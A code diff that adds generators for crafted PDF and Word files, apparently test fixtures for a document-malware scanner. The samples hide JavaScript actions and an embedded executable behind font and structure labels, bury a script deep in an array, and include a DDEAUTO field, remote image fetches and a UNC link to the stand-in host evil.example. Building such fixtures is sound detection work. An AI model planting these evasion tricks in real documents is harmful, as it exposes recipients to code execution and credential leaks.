@@ -79,6 +79,60 @@ def pdf_hidden_next_action() -> bytes:
     return changed_pdf(change)
 
 
+def pdf_disguised_script() -> bytes:
+    """Actions that call themselves something else: a structure element, a font; their kind behind a reference."""
+
+    def change(document: pikepdf.Pdf) -> None:
+        element = Dictionary(
+            Type=Name.StructElem, S=document.make_indirect(Name.JavaScript), JS=String("x"), P=document.Root, K=0
+        )
+        first = Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]), Next=element)
+        entry = document.make_indirect(Dictionary(Title=String("目录"), A=first))
+        document.Root.Outlines = document.make_indirect(Dictionary(First=entry, Last=entry, Count=1))
+        document.pages[0].obj.AA = Dictionary(Type=Name.Font, O=script())
+
+    return changed_pdf(change)
+
+
+def pdf_deep_script() -> bytes:
+    """At the end of a very long array, inside arrays."""
+
+    def change(document: pikepdf.Pdf) -> None:
+        document.Root.PieceInfo = Dictionary(X=Array([Array([script(), *([0] * 50_000)])]))
+
+    return changed_pdf(change)
+
+
+def pdf_disguised_file() -> bytes:
+    """A file specification that says it is a font."""
+
+    def change(document: pikepdf.Pdf) -> None:
+        held = document.make_indirect(Stream(document, b"MZ" + SECRET))
+        spec = Dictionary(Type=Name.Font, F=String("a.exe"), EF=Dictionary(Type=Name.Font, UF=held))
+        document.pages[0].obj.AF = Array([document.make_indirect(spec)])
+
+    return changed_pdf(change)
+
+
+def pdf_odd_names() -> bytes:
+    """Harmless: fonts and pictures may be called anything, also /AA, /EF and /JS."""
+
+    def change(document: pikepdf.Pdf) -> None:
+        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
+        held = document.make_indirect(font)
+        picture = document.make_indirect(
+            Stream(document, b"0 0 9 9 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
+        )
+        document.pages[0].obj.Resources = Dictionary(
+            Font=Dictionary(AA=held, EF=held, JS=held), XObject=Dictionary(JS=picture)
+        )
+        document.pages[0].obj.Contents = document.make_indirect(
+            Stream(document, b"BT /AA 9 Tf (a) Tj /EF 9 Tf (b) Tj ET /JS Do")
+        )
+
+    return changed_pdf(change)
+
+
 def pdf_submit_form() -> bytes:
     def change(document: pikepdf.Pdf) -> None:
         action = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.example/")))
@@ -338,6 +392,35 @@ def docx_lying_sizes() -> bytes:
     place = content.rindex(b"word/bomb.xml") - 46
     content[place + 24 : place + 28] = struct.pack("<I", 1)
     return bytes(content)
+
+
+def docx_other_main_part() -> bytes:
+    """The document proper under a name that does not look like one."""
+    field = '<w:r><w:fldSimple w:instr=" DDEAUTO c:\\\\x "/></w:r>'
+    return docx(("word/evil.dat", word_body(field)))
+
+
+def docx_other_main_part_in_utf_16() -> bytes:
+    field = '<w:r><w:fldSimple w:instr=" DDEAUTO c:\\\\x "/></w:r>'
+    return docx(("word/evil.dat", word_body(field).decode().encode("utf-16")))
+
+
+def docx_vml_source() -> bytes:
+    return docx(("word/vmlDrawing1.vml", b'<xml><v:imagedata xmlns:v="urn:v" src="http://evil.example/a.png"/></xml>'))
+
+
+def docx_scheme_without_mode() -> bytes:
+    """Claims to be inside, and is not."""
+    line = relation("image", "file://///evil.example/a.png", external=False)
+    return docx(("word/_rels/document.xml.rels", relations(line)))
+
+
+def docx_alternative_chunk() -> bytes:
+    return docx(("word/_rels/document.xml.rels", relations(relation("aFChunk", "/word/a.mht", external=False))))
+
+
+def docx_strange_part() -> bytes:
+    return docx(("word/media/image1.png", b"\x4c\0\0\0\x01\x14\x02\0shortcut"))
 
 
 def xlsx(*more: tuple[str, bytes]) -> bytes:
